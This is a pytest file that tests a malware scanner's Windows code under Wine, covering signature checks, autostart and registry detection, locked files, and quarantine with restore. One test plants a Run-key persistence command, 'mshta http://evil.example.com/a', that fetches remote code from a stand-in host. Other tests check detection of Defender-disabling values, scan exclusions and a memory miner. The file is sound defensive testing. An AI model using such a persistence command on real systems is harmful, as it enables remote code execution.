"""The scanner's Windows code under Wine, with the Python and the libraries of the Windows bundle.

What Wine cannot prove: docs/windows-checklist.md.

Skipped without Wine, except in the project's check. `LAMSACH_WINE_BUNDLE` names an unpacked bundle to be used
instead of a new one.
"""

from __future__ import annotations

import os
from typing import Any

import pytest

from .planted import EICAR, scan_paths
from .wine import Wine

pytestmark = pytest.mark.wine  # `make test-windows` builds the bundle, which needs the internet


@pytest.fixture(scope="module")
def seen(wine: Wine, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Return the results of most checks, run together since Wine takes seconds to start."""
    folder = tmp_path_factory.mktemp("signed")
    python = wine.bundle / "python/python.exe"
    changed = bytearray(python.read_bytes())
    changed[len(changed) // 3] ^= 1
    (folder / "changed.exe").write_bytes(changed)
    (folder / "plain.txt").write_bytes(b"text")
    files = [
        f"Z:{path}".replace("/", "\\") for path in (python, folder / "changed.exe", folder / "plain.txt")
    ]
    own = r"C:\windows\system32\notepad.exe"  # Wine's own, unsigned
    names = ("file", "running", "leftover", "locked", "settings", "signatures")
    return wine.check(*names, "--", *files, own, r"C:\not there.exe")


def test_a_file_removed_and_restored(seen: Any) -> None:
    assert seen["file"].pop("refused") == []
    assert all(seen["file"].values()), seen["file"]


def test_a_running_program(seen: Any) -> None:
    assert all(seen["running"].values()), seen["running"]
    assert seen["leftover"] == {"before": True, "after": False, "marked": False}


def test_a_locked_file(seen: Any) -> None:
    assert seen["locked"] == {
        "waiting": True,
        "there": True,
        "touched": [],
        "pending": True,
        "cancelled": True,
        "items": [],
    }


def test_resolver_and_proxy(seen: Any) -> None:
    assert seen["settings"] == {"ProxyServer": True, "WinHttpSettings": True, "NameServer": True}


def test_values_of_the_wrong_type(wine: Wine) -> None:
    seen = wine.check("odd_types")["odd_types"]
    assert seen["refused"] == []
    found = {tuple(finding) for finding in seen["found"]}
    assert {("listed_start", "no end"), ("listed_start", "half a letter"), ("listed_start", "Odd")} <= found
    assert {("unusual_start", "Shell"), ("unusual_start", "Debugger")} <= found
    assert ("protection_off", "DisableRealtimeMonitoring") in found
    assert ("exclusion", "Paths") in found
    assert seen["entries"] >= 26


def test_values_come_back_bit_for_bit(wine: Wine) -> None:
    seen = wine.check("bit_for_bit", "cut_short")
    assert all(seen["bit_for_bit"].values()), seen
    assert seen["cut_short"] == {step: [9, True, True] for step in ("stored", "changed", "given back")}


def test_automatic_starts_are_found(wine: Wine) -> None:
    seen = wine.check("starts")["starts"]
    found = {tuple(finding) for finding in seen["found"]}
    named = {"once", "policy", "Bad", "Bad2", "Userinit"}
    assert {("listed_start", name) for name in named} <= found
    assert {("unusual_start", name) for name in ("Userinit", "Debugger", "AppInit_DLLs")} <= found
    assert ("start_habit", "Bad") in found
    assert seen["folder"]


def test_memory_and_connections(wine: Wine) -> None:
    seen = wine.check("memory", "connected")
    assert "memory_miner" in seen["memory"]["found"], seen
    assert seen["memory"]["gone"] in ("no_right", "vanished")
    assert seen["connected"] == {"connections": True, "skips": []}


def test_the_bundles_own_files_are_not_found(wine: Wine) -> None:
    result = scan_paths(wine.bundle)
    assert [(finding.subject, finding.reason) for finding in result.findings] == []
    assert result.counts.files > 500


def test_signatures_are_judged_as_windows_does(seen: Any) -> None:
    changed = seen["signatures"].pop("changed.exe")
    assert changed[0] == "distrusted"
    assert seen["signatures"] == {
        "python.exe": ["trusted", "Python Software Foundation"],
        "plain.txt": ["unsigned", ""],
        "notepad.exe": ["unsigned", ""],
        "not there.exe": ["unknown", ""],
    }


def test_a_locked_file_after_the_next_start(wine: Wine) -> None:
    assert wine.check("before_start")["before_start"] == {"waiting": True}
    wine.restart()
    after = wine.check("after_start")["after_start"]
    assert after.pop("aside") is False
    assert all(after.values()), after


def test_clean_and_undo(wine: Wine) -> None:
    folder = wine.drive / "Đơn vị"
    folder.mkdir(parents=True)
    file = folder / "bad.com"
    file.write_bytes(EICAR)
    os.utime(file, (10**9, 10**9))
    words = (r"C:\Đơn vị", "--jobs", "2", "--language", "en", "--quarantine", "--yes")
    ran = wine.scanner("scan", *words)
    assert "second look does not find it" in ran.stdout, ran.stderr
    assert not file.exists()
    assert wine.scanner("quarantine", "restore", "--all", "--yes").returncode == 0
    assert file.read_bytes() == EICAR
    assert file.stat().st_mtime == 10**9


def test_a_run_key(wine: Wine) -> None:
    key = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
    command = "mshta http://evil.example.com/a"
    assert wine.run("reg", "add", key, "/v", "Bad", "/d", command, "/f").returncode == 0
    (wine.drive / "list.txt").write_text("evil.example.com\n")
    words = ("--quick", "--no-memory", "--time-limit", "60", "--jobs", "0", "-i", r"C:\list.txt")
    elsewhere = ("--exclude", r"C:\\windows", "--exclude", r"C:\\users", "--exclude", r"C:\\ProgramData")
    ran = wine.scanner("scan", *words, *elsewhere, "--language", "en", "--quarantine", "--yes")
    assert "take the registry value away - done" in ran.stdout, ran.stdout + ran.stderr
    # Answers missing from Wine's tools are reported, and not clean.
    assert "WMI root/subscription" in ran.stdout
    assert wine.run("reg", "query", key, "/v", "Bad").returncode != 0
    assert wine.scanner("quarantine", "restore", "--all", "--yes").returncode == 0
    assert command in wine.run("reg", "query", key, "/v", "Bad").stdout
